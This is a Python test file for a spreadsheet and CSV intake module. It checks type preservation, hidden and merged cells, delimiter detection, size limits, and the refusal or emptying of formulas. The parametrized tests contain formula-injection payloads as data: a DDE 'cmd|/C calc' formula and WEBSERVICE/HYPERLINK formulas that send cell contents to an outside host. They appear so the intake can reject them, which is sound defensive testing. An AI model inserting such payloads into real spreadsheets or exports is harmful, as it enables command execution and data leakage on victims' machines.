"""Rows come out of sheets with their types; formulas never pass for data (C9, S-08)."""

import datetime as dt
import io
import zipfile

import openpyxl
import pytest
import xlsxwriter

from taicho.kernel.intake import Kind, Read, Sheet, take_in
from taicho.kernel.intake.delimited import delimiter_of
from taicho.kernel.refusals import Refusal

TABLES = frozenset({Kind.XLSX, Kind.CSV})


def rows_of(data: bytes, name: str = "ds.xlsx") -> tuple[Sheet, ...]:
    """The sheets of a table file."""
    return take_in(data, name=name, accept=TABLES, read=Read.ROWS).sheets


def written(fill) -> bytes:
    """A workbook whose first sheet `fill` has written."""
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out, {"in_memory": True})
    fill(book, book.add_worksheet("Danh sách"))
    book.close()
    return out.getvalue()


def code_of(data: bytes, name: str = "ds.xlsx") -> str:
    """The code with which a table file is refused."""
    with pytest.raises(Refusal) as caught:
        rows_of(data, name)
    return caught.value.code


def test_values_keep_their_types() -> None:
    def fill(book, sheet) -> None:
        sheet.write_row(0, 0, ["Nguyễn Văn An", 1985, 36.5, True])
        sheet.write_datetime(0, 4, dt.datetime(2021, 9, 3), book.add_format({"num_format": "dd/mm/yyyy"}))
        sheet.write_datetime(0, 5, dt.datetime(2021, 9, 3, 5, 30), book.add_format({"num_format": "dd/mm/yyyy hh:mm"}))
        sheet.write_string(0, 6, "0912345678")

    (sheet,) = rows_of(written(fill))
    assert sheet.rows == (
        ("Nguyễn Văn An", 1985, 36.5, True, dt.date(2021, 9, 3), dt.datetime(2021, 9, 3, 5, 30), "0912345678"),
    )
    assert isinstance(sheet.rows[0][1], int)


def test_empty_rows_above_keep_their_place_so_that_row_numbers_are_those_of_excel() -> None:
    (sheet,) = rows_of(written(lambda book, sheet: sheet.write("C4", "x")))
    assert len(sheet.rows) == 4
    assert sheet.rows[3] == (None, None, "x")


def test_merged_cells_hidden_rows_columns_and_sheets_are_told() -> None:
    def fill(book, sheet) -> None:
        sheet.merge_range("A1:C1", "DANH SÁCH")
        sheet.write("A2", "a")
        sheet.set_row(1, None, None, {"hidden": True})
        sheet.set_column("B:C", None, None, {"hidden": True})
        other = book.add_worksheet("Ẩn")
        other.write("A1", "b")
        other.hide()

    first, second = rows_of(written(fill))
    assert first.merged == ((0, 0, 0, 2),)
    assert (first.hidden_rows, first.hidden_columns) == ({1}, {1, 2})
    assert (first.hidden, second.hidden, second.name) == (False, True, "Ẩn")


def test_a_formula_is_listed_and_its_cached_result_is_not_data() -> None:
    def fill(book, sheet) -> None:
        sheet.write_row(0, 0, [1, 2])
        sheet.write_formula("C1", "=A1+B1", None, 3)

    (sheet,) = rows_of(written(fill))
    assert sheet.rows[0] == (1, 2, None)
    assert sheet.formulas == {(0, 2)}


@pytest.mark.parametrize(
    "formula",
    [
        "=cmd|'/C calc'!A0",
        '=WEBSERVICE("http://x.vn/"&A1)',
        '=HYPERLINK("http://x.vn/?"&A1,"xem")',
        "='[other.xlsx]Sheet1'!A1",
        'RTD("a",,"b")',
    ],
)
def test_a_formula_that_reaches_outside_refuses_the_file_and_names_the_row(formula: str) -> None:
    data = written(lambda book, sheet: sheet.write_formula("B7", formula, None, "0"))
    with pytest.raises(Refusal) as caught:
        take_in(data, name="ds.xlsx", accept=TABLES)
    assert caught.value.code == "intake.live_formula"
    assert "hàng 7" in caught.value.sentence


def test_a_shared_formula_is_seen_in_every_cell_that_uses_it() -> None:
    data = written(lambda book, sheet: sheet.write_row(0, 0, [1, 2, 3]))
    with zipfile.ZipFile(io.BytesIO(data)) as old:
        parts = {name: old.read(name) for name in old.namelist()}
    part = "xl/worksheets/sheet1.xml"
    parts[part] = parts[part].replace(b'<c r="B1"><v>', b'<c r="B1"><f t="shared" ref="B1:C1" si="0">A1+1</f><v>')
    parts[part] = parts[part].replace(b'<c r="C1"><v>', b'<c r="C1"><f t="shared" si="0"/><v>')
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name, content in parts.items():
            new.writestr(name, content)
    (sheet,) = rows_of(out.getvalue())
    assert sheet.formulas == {(0, 1), (0, 2)}
    assert sheet.rows == ((1, None, None),)


def test_a_cell_far_away_is_refused_before_memory_is_taken() -> None:
    data = written(lambda book, sheet: (sheet.write("A1", 1), sheet.write("XFD1048576", 2)))
    assert code_of(data) == "intake.too_many_cells"


def test_a_formatted_but_empty_cell_far_away_hurts_nobody() -> None:
    def fill(book, sheet) -> None:
        sheet.write("A1", "x")
        sheet.write_blank("XFD1048576", None, book.add_format({"bold": True}))

    (sheet,) = rows_of(written(fill))
    assert sheet.rows == (("x",),)


def test_an_error_value_comes_out_as_its_text_or_nothing_and_never_stops_the_reading() -> None:
    book, out = openpyxl.Workbook(), io.BytesIO()
    assert book.active is not None
    cell = book.active["A1"]
    cell.value, cell.data_type = "#N/A", "e"
    book.active["B1"] = "sau"
    book.save(out)
    (sheet,) = rows_of(out.getvalue())
    assert sheet.rows[0][1] == "sau"


@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
def test_the_delimiter_of_a_text_table_is_found(delimiter: str) -> None:
    lines = [["STT", "Họ tên", "Quê"], ["1", "An", "Hà Nội"], ["2", "Bình", "Huế"]]
    text = "\n".join(delimiter.join(line) for line in lines)
    (sheet,) = rows_of(text.encode(), "ds.csv")
    assert sheet.rows == tuple(map(tuple, lines))


def test_a_comma_inside_quotes_does_not_win_over_the_semicolon() -> None:
    assert delimiter_of('a;"x, y, z"\nb;"u, v, w"\n') == ";"


def test_excels_own_hint_is_followed_and_is_no_row() -> None:
    (sheet,) = rows_of(b"sep=;\r\na;b\r\n1;2\r\n", "ds.csv")
    assert sheet.rows == (("a", "b"), ("1", "2"))


def test_a_quoted_line_break_stays_in_its_cell() -> None:
    (sheet,) = rows_of('a,"dòng 1\ndòng 2"\n'.encode(), "ds.csv")
    assert sheet.rows == (("a", "dòng 1\ndòng 2"),)


def test_formulas_of_a_text_table_are_emptied_and_listed_while_phones_and_dashes_stay() -> None:
    text = "=1+1,+84912345678,-,- Như trên\n@SUM(A1),+cmd|' /C calc'!A0,-5,@zalo\n"
    (sheet,) = rows_of(text.encode(), "ds.csv")
    assert sheet.rows == ((None, "+84912345678", "-", "- Như trên"), (None, None, "-5", "@zalo"))
    assert sheet.formulas == {(0, 0), (1, 0), (1, 1)}


def test_text_is_a_table_where_only_tables_are_wanted() -> None:
    accepted = take_in(b"a,b\n1,2\n", name="ds.txt", accept=TABLES, read=Read.ROWS)
    assert (accepted.kind, accepted.name) == (Kind.CSV, "ds.csv")


def test_more_rows_than_any_office_has_are_refused() -> None:
    assert code_of(b"1\n" * 60_000, "ds.csv") == "intake.too_many_cells"
